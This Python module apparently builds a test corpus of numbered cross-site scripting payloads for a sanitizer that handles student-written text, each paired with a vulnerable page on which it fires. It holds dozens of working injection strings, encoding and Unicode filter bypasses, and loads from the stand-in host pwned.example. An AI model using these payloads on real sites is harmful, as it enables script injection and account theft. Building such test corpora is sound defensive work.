"""Markup that tries to run or to send something, each with the page on which it would succeed.

`§` stands for the payload's own number, which `alert` or a request to `pwned.example` tells.
"""

from __future__ import annotations

import html
import json
import re
import unicodedata
from collections.abc import Callable
from dataclasses import dataclass
from urllib.parse import unquote

from markdown_it import MarkdownIt

HOST = "pwned.example"
_AWAY = f"http://{HOST}/§"
_ANSI = re.compile(r"\x1b\[[0-9;]*m")
_LINK = re.compile(r"\x1b\]8;;(.*?)\x07(.*?)\x1b\]8;;\x07")
_HREF = re.compile(r"\$\\href\{(.*?)\}\{(.*?)\}\$")
_COLOUR = re.compile(r"\$\\color\{(.*?)\}\{(.*?)\}\$")
_FENCE = re.compile("```(.*)\nx\n```")
_TEXT = re.compile(r"\$\\text\{(.*?)\}\$")


@dataclass(frozen=True, slots=True)
class Payload:
    """One attempt.

    Attributes:
        text: what a student writes.
        careless: a page that puts the text where it does harm: the proof that it can.
    """

    number: int
    text: str
    careless: str


def _markdown(text: str) -> str:
    renderer = MarkdownIt("commonmark", {"html": True})
    renderer.validateLink = lambda url: True  # type: ignore[method-assign]
    return renderer.render(text)


def _within(before: str, after: str) -> Callable[[str], str]:
    return lambda text: f"{before}{text}{after}"


_AS_IT_IS = _within("<div>", "</div>")
_IN_QUOTES = _within('<input value="', '">')
_IN_COMMENT = _within("<!-- ", " -->")
_IN_STYLE = _within("<style>p {", "}</style><p>x</p>")
_IN_SCRIPT = _within('<script>var a = "', '";</script>')
_AS_LINK = _within('<a href="', '">x</a>')


# By what a careless page does with the text.
_TEXTS: list[tuple[Callable[[str], str], list[str]]] = [
    (
        _AS_IT_IS,
        [
            "<script>alert(§)</script>",
            "<ScRiPt/x>alert(§)</sCrIpT >",
            f"<script src={_AWAY}></script>",
            f'<script type=module>import "{_AWAY}"</script>',
            "<img src=x onerror=alert(§)>",
            "<img/src/onerror=alert(§)>",
            "<img src=x onerror=&#97;lert(§)>",
            r'<img src=x onerror="al\u0065rt(§)">',
            f"<img src={_AWAY}>",
            f"<img srcset='{_AWAY} 1x'>",
            "<svg onload=alert(§)>",
            "<svg><script>alert(§)</script></svg>",
            "<svg><animate onbegin=alert(§) attributeName=x dur=1s></svg>",
            f"<svg><image href={_AWAY} /></svg>",
            '<svg><a xlink:href="javascript:alert(§)"><text y=20>x</text></a></svg>',
            '<svg><style>@import "' + _AWAY + '";</style></svg>',
            '<iframe src="javascript:alert(§)"></iframe>',
            '<iframe srcdoc="<script>alert(§)</script>"></iframe>',
            f"<iframe src={_AWAY}></iframe>",
            f"<object data={_AWAY}></object>",
            f"<embed src={_AWAY}>",
            f"<link rel=stylesheet href={_AWAY}>",
            f"<link rel=preload as=image href={_AWAY}>",
            f"<style>@import url({_AWAY});</style>",
            f'<p style="background:url({_AWAY})">x</p>',
            f'<meta http-equiv=refresh content="0;url={_AWAY}">',
            f"<base href={_AWAY}/><img src=x>",
            f"<form action={_AWAY}><button>x</button></form>",
            '<form><button formaction="javascript:alert(§)">x</button></form>',
            '<a href="javascript:alert(§)">x</a>',
            '<a href="java&#10;script:alert(§)">x</a>',
            '<a href=" &#1;javascript:alert(§)">x</a>',
            f"<a href=# ping={_AWAY}>x</a>",
            "<body onload=alert(§)>",
            f"<body background={_AWAY}>",
            "<input onfocus=alert(§) autofocus>",
            "<details open ontoggle=alert(§)>x</details>",
            "<video><source onerror=alert(§)></video>",
            f"<video poster={_AWAY}></video>",
            f"<audio src={_AWAY} autoplay></audio>",
            "<x onmouseover=alert(§)>x</x>",
            "<button onclick=alert(§)>x</button>",
            "<style>@keyframes k{}</style><p style=animation:k onanimationstart=alert(§)>x</p>",
            "<p><template shadowrootmode=open><img src=x onerror=alert(§)></template></p>",
            '<noscript><p title="</noscript><img src=x onerror=alert(§)>"></noscript>',
        ],
    ),
    (
        _IN_QUOTES,
        [
            '"><script>alert(§)</script>',
            '" autofocus onfocus="alert(§)',
            f'"><img src={_AWAY} x="',
        ],
    ),
    (_within("<input value='", "'>"), ["' onmouseover='alert(§)"]),
    (_within("<input value=", ">"), ["x onmouseover=alert(§)"]),
    (_within("<title>", "</title>"), ["</title><script>alert(§)</script>"]),
    (_within("<textarea>", "</textarea>"), ["</textarea><img src=x onerror=alert(§)>"]),
    (_within("<pre><code>", "</code></pre>"), ["</code></pre><svg/onload=alert(§)>"]),
    (_within("<svg><text>", "</text></svg>"), ["</text><script>alert(§)</script>"]),
    (_within("<svg><desc><![CDATA[", "]]></desc></svg>"), ["]]><script>alert(§)</script>"]),
    (_IN_STYLE, ["</style><script>alert(§)</script>", f"}} * {{ background: url({_AWAY})"]),
    (_IN_COMMENT, ["--><script>alert(§)</script>", "--!><img src=x onerror=alert(§)>"]),
    (_IN_SCRIPT, ["</script><script>alert(§)</script>", '"; alert(§); //']),
    (_within("<script>var a = `", "`;</script>"), ["${alert(§)}"]),
    (_AS_LINK, ["javascript:alert(§)", "JaVaScRiPt:alert(§)//http://x"]),
    (_within("<iframe src='", "'></iframe>"), ["data:text/html,<script>alert(§)</script>"]),
    (
        _markdown,
        [
            "[x](javascript:alert(§))",
            "[x]\n\n[x]: javascript:alert(§)",
            f"![x]({_AWAY})",
            "<javascript:alert(§)>",
        ],
    ),
    (lambda text: _HREF.sub(r'<a href="\1">\2</a>', text), [r"$\href{javascript:alert(§)}{x}$"]),
    (
        lambda text: _TEXT.sub(r"<i>\1</i>", html.unescape(text)),
        [
            r"$\text{<img src=x onerror=alert(§)>}$",
            r"$$\text{</math><script>alert(§)</script>}$$",
            r"$\text{&lt;img src=x onerror=alert(§)&gt;}$",
        ],
    ),
    (
        lambda text: _COLOUR.sub(r'<i style="color:\1">\2</i>', text),
        [r"""$\color{red" onmouseover="alert(§)}{x}$"""],
    ),
    (
        lambda text: text.replace(r"\begin{align}", "").replace(r"\end{align}", ""),
        [r"\begin{align}<svg onload=alert(§)>\end{align}"],
    ),
    (
        lambda text: _FENCE.sub(r'<code class="language-\1">x</code>', text),
        ['```"><img/src/onerror=alert(§)>\nx\n```'],
    ),
    # Harmless until somebody decodes, folds or cleans them once too often.
    (html.unescape, ["&lt;script&gt;alert(§)&lt;/script&gt;"]),
    (unquote, ["%3Cscript%3Ealert(§)%3C/script%3E"]),
    (lambda text: json.loads(f'"{text}"'), [r"\u003cscript\u003ealert(§)\u003c/script\u003e"]),
    (lambda text: unicodedata.normalize("NFKC", text), ["＜script＞alert(§)＜/script＞"]),
    (lambda text: text.replace("<script>", ""), ["<scr<script>ipt>alert(§)</script>"]),
    (lambda text: _ANSI.sub("", text), ["<scr\x1b[31mipt>alert(§)</scr\x1b[0mipt>"]),
    (
        lambda text: _LINK.sub(r'<a href="\1">\2</a>', text),
        ["\x1b]8;;javascript:alert(§)\x07x\x1b]8;;\x07"],
    ),
    (lambda text: text.replace("\x00", ""), ["<scr\x00ipt>alert(§)</scr\x00ipt>"]),
    (lambda text: text.replace("\u200b", ""), ["<scr\u200bipt>alert(§)</scr\u200bipt>"]),
    (lambda text: text.replace("\u202e", ""), ["<img src=x one\u202error=alert(§)>"]),
]


def _payloads() -> list[Payload]:
    pairs = [(careless, text) for careless, texts in _TEXTS for text in texts]
    made = []
    for number, (careless, template) in enumerate(pairs, 1):
        text = template.replace("§", str(number))
        made.append(Payload(number, text, f"<!doctype html><meta charset=utf-8>{careless(text)}"))
    return made


PAYLOADS = _payloads()
